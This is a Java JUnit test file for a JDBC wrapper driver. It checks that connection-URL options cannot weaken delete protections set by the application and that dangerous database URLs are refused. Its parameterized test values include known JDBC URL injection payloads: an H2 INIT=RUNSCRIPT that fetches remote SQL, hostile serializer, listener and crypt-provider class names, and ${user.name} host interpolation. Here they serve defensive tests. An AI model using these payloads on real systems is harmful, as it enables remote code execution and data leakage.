package org.cascadejdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.CharBuffer;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.sql.SQLFeatureNotSupportedException;
import java.sql.Statement;
import java.util.List;
import java.util.Map;
import java.util.Properties;
import org.assertj.core.api.ThrowableAssert.ThrowingCallable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What somebody can do who has nothing but a URL to type. */
class GivenOptionsTest {
    /** Notes every URL that it is asked about, and takes it. */
    private static final class Curious extends SeenDriver {
        private String seen = "";

        @Override
        public boolean acceptsURL(String url) {
            seen += url;
            return true;
        }
    }

    /** Tells when any code of it runs. */
    static final class Trap {
        static {
            System.setProperty("cascade.test.trap", "initialised");
        }
    }

    @AfterEach
    void forget() {
        System.clearProperty("cascade.test.trap");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "evil:mem:x;INIT=RUNSCRIPT FROM 'http://h/x.sql'", "otel:evil:x", "p6spy:otel:evil:x", "cascade:evil:x", "evil",
                "sqliteevil:x", "SQLITE:evil", "p6spy:pop6spy:stgresql://evil", "", ":evil", "otel:"
            })
    void noDriverSeesAUrlOfAnotherDatabase(String url) throws SQLException {
        Curious curious = new Curious();
        DriverManager.registerDriver(curious);
        try {
            assertThatThrownBy(() -> new CascadeDriver().connect("jdbc:cascade:" + url, null))
                    .isInstanceOf(SQLFeatureNotSupportedException.class)
                    .hasMessageContaining("PostgreSQL, MySQL, MariaDB, SQLite, H2 and HSQLDB");
            try (CascadeDataSource dataSource = new CascadeDataSource()) {
                dataSource.setUrl("jdbc:cascade:" + url + "?cascade.driver=" + Curious.class.getName());
                assertThatThrownBy(dataSource::getConnection).isInstanceOf(SQLFeatureNotSupportedException.class);
            }
            assertThat(curious.seen).isEmpty();
        } finally {
            DriverManager.deregisterDriver(curious);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "sqlite::memory:", "postgresql://h/d", "mysql:loadbalance://h/d", "mysql+srv://h/d", "mariadb://h/d",
                "otel:p6spy:postgresql:d", "aws-wrapper:mysql://h/d", "otel:cascade:sqlite:a.db"
            })
    void databasesThatWeKnowMayBeNamed(String url) {
        assertThatCode(() -> new GivenOptions(Map.of(), Map.of()).checkDatabase("jdbc:" + url)).doesNotThrowAnyException();
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "h2:mem:x;INIT=RUNSCRIPT FROM 'http://h/x.sql'", "h2:mem:x;MODE=MySQL;init =SELECT 1", "h2:./x;MODE=a\\;INIT=SELECT 1",
            "p6spy:h2:mem:x;JAVA_OBJECT_SERIALIZER='org.Evil'", "h2:mem:x;DATABASE_EVENT_LISTENER='org.Evil'",
            "h2:./x;TRACE_LEVEL_FILE=3", "h2:./x;AUTO_SERVER=TRUE",
            "hsqldb:mem:x;crypt_provider=org.Evil", "hsqldb:file:x;hsqldb.applog=3", "hsqldb:hsql://${user.name}.evil.invalid/",
            "otel:hsqldb:mem:${java.class.path}", "hsqldb:mem:x;user=${user.name}"
    })
    void noUrlHasADriverDoMoreThanLogIn(String url) {
        assertThatThrownBy(() -> new GivenOptions(Map.of(), Map.of()).checkDatabase("jdbc:" + url))
                .isInstanceOf(SQLFeatureNotSupportedException.class)
                .hasMessageContaining("more than log in");
        assertThatCode(() -> new GivenOptions(Map.of("cascade.driver", "org.h2.Driver"), Map.of()).checkDatabase("jdbc:" + url))
                .doesNotThrowAnyException();
        assertThatCode(() -> new GivenOptions(Map.of(), Map.of()).checkDatabase("jdbc:h2:mem:x;MODE=MySQL;DB_CLOSE_DELAY=-1"))
                .doesNotThrowAnyException();
        assertThatCode(() -> new GivenOptions(Map.of(), Map.of()).checkDatabase("jdbc:hsqldb:mem:x;sql.syntax_pgs=true;shutdown=true"))
                .doesNotThrowAnyException();
    }

    @Test
    void theApplicationMayNameAnyDriver() {
        Properties info = new Properties();
        info.setProperty("cascade.driver", SeenDriver.class.getName());

        assertThatThrownBy(() -> new CascadeDriver().connect("jdbc:cascade:seen:x", info)).hasMessage("jdbc:seen:x {}");
    }

    @Test
    void aClassThatIsNoDriverIsNotInitialised() {
        assertThatThrownBy(() -> new CascadeDriver()
                        .connect("jdbc:cascade:sqlite::memory:?cascade.driver=" + Trap.class.getName(), null))
                .hasMessageContaining("is not a java.sql.Driver");
        assertThat(System.getProperty("cascade.test.trap")).isNull();
    }

    @ParameterizedTest
    @CsvSource({
        "cascade.maxRows, 10, 1000, 10",
        "cascade.maxRows, 1000, 10, 10",
        "cascade.maxRows, 10, 0, 10",
        "cascade.maxRows, 0, 10, 10",
        "cascade.unrecognized, refuse, pass, refuse",
        "cascade.unrecognized, pass, refuse, refuse",
        "cascade.unrecognized, pass, pass, pass",
        "cascade.unsupported, refuse, pass, refuse",
        "cascade.unsupported, pass, refuse, refuse",
        "cascade.enabled, true, false, true",
        "cascade.enabled, false, true, true",
        "cascade.enabled, false, false, false",
        "cascade.engine, mysql, sqlite, mysql",
        "cascade.strategy, native, emulate, native",
        "cascade.strategy, emulate, native, emulate",
        "cascade.noAction, keep, cascade, keep",
        "cascade.noAction, cascade, keep, cascade",
        "cascade.sqliteForeignKeys, on, keep, on",
        "cascade.relations, a.sql, '', a.sql",
        "cascade.relations, a.sql, b.sql, a.sql",
        "cascade.relations, '', b.sql, ''"
    })
    void ofWhatGuardsTheStricterCounts(String key, String application, String url, String counts) {
        CascadeOptions options = new GivenOptions(Map.of(key, application), Map.of(key, url)).options();

        assertThat(options).isEqualTo(CascadeOptions.of(Map.of(key, counts)));
    }

    /** What the application names is read as its own, and told with line and words. */
    @Test
    void relationsAreOfWhoNamesThem() {
        Map<String, String> some = Map.of("cascade.relations", "a.sql");

        assertThat(new GivenOptions(some, Map.of("cascade.relations", "")).relationsFromUrl()).isFalse();
        assertThat(new GivenOptions(Map.of("cascade.maxRows", "5"), some).relationsFromUrl()).isTrue();
    }

    /** Where the application guards what is deleted, no other option in a URL lets a DELETE pass by the guard. */
    @Test
    void aUrlDoesNotPassByWhatTheApplicationGuards() {
        Map<String, String> url = Map.of(
                "cascade.enabled", "false", "cascade.unrecognized", "pass", "cascade.unsupported", "pass", "cascade.engine", "mysql");
        CascadeOptions guarded = new GivenOptions(Map.of("cascade.protect", "orders"), url).options();

        assertThat(guarded.enabled()).isTrue();
        assertThat(guarded.unrecognized()).isEqualTo("refuse");
        assertThat(guarded.unsupported()).isEqualTo("refuse");
        assertThat(guarded.engine()).isEmpty();
        assertThat(new GivenOptions(Map.of(), url).options().enabled()).isFalse();
    }

    @Test
    void aUrlTakesNoTableOutOfProtection() {
        CascadeOptions options = new GivenOptions(
                        Map.of("cascade.protect", "audit", "cascade.maxRowsPerTable", "item:3,invoice:5"),
                        Map.of("cascade.protect", "other", "cascade.maxRowsPerTable", "item:9,invoice:2"))
                .options();

        assertThat(options.protect()).containsExactly("audit", "other");
        assertThat(options.maxRowsPerTable()).isEqualTo(Map.of("item", 3L, "invoice", 2L));
    }

    @ParameterizedTest
    @ValueSource(strings = {"evil:x", "sqliteevil:x", "otel:evil:x"})
    void whoAsksForPropertiesShowsNoDriverAUrlOfAnotherDatabase(String url) throws SQLException {
        Curious curious = new Curious();
        DriverManager.registerDriver(curious);
        try {
            String named = "jdbc:cascade:" + url + "?cascade.driver=" + Curious.class.getName();
            assertThat(new CascadeDriver().getPropertyInfo("jdbc:cascade:" + url, null)).hasSize(Option.values().length);
            assertThat(new CascadeDriver().getPropertyInfo(named, null)).hasSize(Option.values().length);
            assertThat(curious.seen).isEmpty();
        } finally {
            DriverManager.deregisterDriver(curious);
        }
    }

    @Test
    void theApplicationsDriverIsAskedForProperties() throws SQLException {
        Properties info = new Properties();
        info.setProperty("cascade.driver", "org.sqlite.JDBC");

        assertThat(new CascadeDriver().getPropertyInfo(
                        "jdbc:cascade:sqlite::memory:?cascade.driver=" + SeenDriver.class.getName(), info))
                .extracting(property -> property.name)
                .contains("journal_mode");
    }

    @Test
    void aValueInAUrlIsBounded() {
        assertThatThrownBy(() -> new CascadeDriver()
                        .connect("jdbc:cascade:sqlite::memory:?cascade.protect=" + "a,".repeat(40_000), null))
                .isInstanceOf(SQLException.class)
                .hasMessage("cascade.protect is longer than 65536 characters in the URL; let the application set the option");
    }

    /** {@link Properties#getProperty} finds no value that is not a text, and a guard must not be lost by that. */
    @Test
    void aGuardThatIsGivenAsANumberCounts() throws SQLException {
        Properties info = new Properties();
        info.put("cascade.maxRows", 1);
        info.put("cascade.enabled", true);
        info.put("cascade.protect", CharBuffer.wrap("audit"));
        try (Connection connection = new CascadeDriver().connect("jdbc:cascade:sqlite::memory:?cascade.enabled=false", info);
                Statement statement = connection.createStatement()) {
            statement.execute("CREATE TABLE p (id INTEGER PRIMARY KEY)");
            statement.execute("CREATE TABLE audit (id INTEGER PRIMARY KEY, p REFERENCES p ON DELETE CASCADE)");
            statement.execute("CREATE TABLE free (id INTEGER PRIMARY KEY)");
            statement.execute("INSERT INTO p VALUES (1)");
            statement.execute("INSERT INTO audit VALUES (1, 1)");
            statement.execute("INSERT INTO free VALUES (1), (2)");

            assertThatThrownBy(() -> statement.execute("DELETE FROM p")).hasMessageContaining("cascade.protect");
            assertThatThrownBy(() -> statement.execute("DELETE FROM free")).hasMessageContaining("cascade.maxRows");
        }
        for (Object value : List.of(List.of("audit"), new Object[] {"audit"}, 'a')) {
            info.put("cascade.protect", value);
            for (ThrowingCallable use : List.<ThrowingCallable>of(
                    () -> new CascadeDriver().connect("jdbc:cascade:sqlite::memory:", info),
                    () -> new CascadeDriver().getPropertyInfo("jdbc:cascade:sqlite::memory:", info))) {
                assertThatThrownBy(use).isInstanceOf(SQLException.class).hasMessageContaining("give it as a text");
            }
        }
    }
}
